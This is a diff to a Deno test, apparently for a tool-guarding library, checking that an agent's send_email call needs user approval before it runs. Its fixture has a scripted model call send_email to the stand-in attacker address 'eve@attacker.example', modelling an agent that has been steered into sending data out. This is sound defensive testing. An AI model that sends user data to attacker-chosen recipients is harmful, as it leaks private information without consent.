@@ -97,20 +97,29 @@ Deno.test("guardTools() maps a confirmation to the SDK's tool approval: the user
       [{ id: "c2", tool: "send_email", input: { to: "eve@attacker.example" } }],
       "Done.",
     ]);
+    const asked: string[] = [];
+    const askUser = (reason: string | undefined) => {
+      asked.push(String(reason));
+      assert.deepEqual(sent, [], "nothing runs before the user answers");
+      return Promise.resolve(approved);
+    };
+    // As the README shows it.
     const messages: ModelMessage[] = [{ role: "user", content: PROMPT }];
     const first = await generateText({ model, tools, toolApproval, messages, stopWhen: isStepCount(5) });
-    const requests = first.content.filter((part) => part.type === "tool-approval-request");
-    assert.equal(requests.length, 1);
-    const request = requests[0];
-    assert.equal(request.type === "tool-approval-request" && request.toolCall.toolName, "send_email");
-    assert.match(String(request.type === "tool-approval-request" && request.reason), /^send_email: confirm/);
-    assert.deepEqual(sent, [], "nothing runs before the user answers");
-
-    messages.push(...first.response.messages, {
-      role: "tool",
-      content: [{ type: "tool-approval-response", approvalId: request.approvalId, approved }],
-    });
+    for (const part of first.content) {
+      if (part.type !== "tool-approval-request") continue; // pab's "confirm": ask the user
+      messages.push(...first.response.messages, {
+        role: "tool",
+        content: [{
+          type: "tool-approval-response",
+          approvalId: part.approvalId,
+          approved: await askUser(part.reason),
+        }],
+      });
+    }
     const second = await generateText({ model, tools, toolApproval, messages, stopWhen: isStepCount(5) });
+    assert.equal(asked.length, 1);
+    assert.match(asked[0], /^send_email: confirm\n- \[untrusted-argument\] to='eve@attacker\.example'/);
     assert.equal(second.text, "Done.");
     assert.deepEqual(sent, approved ? ["eve@attacker.example"] : []);
   }
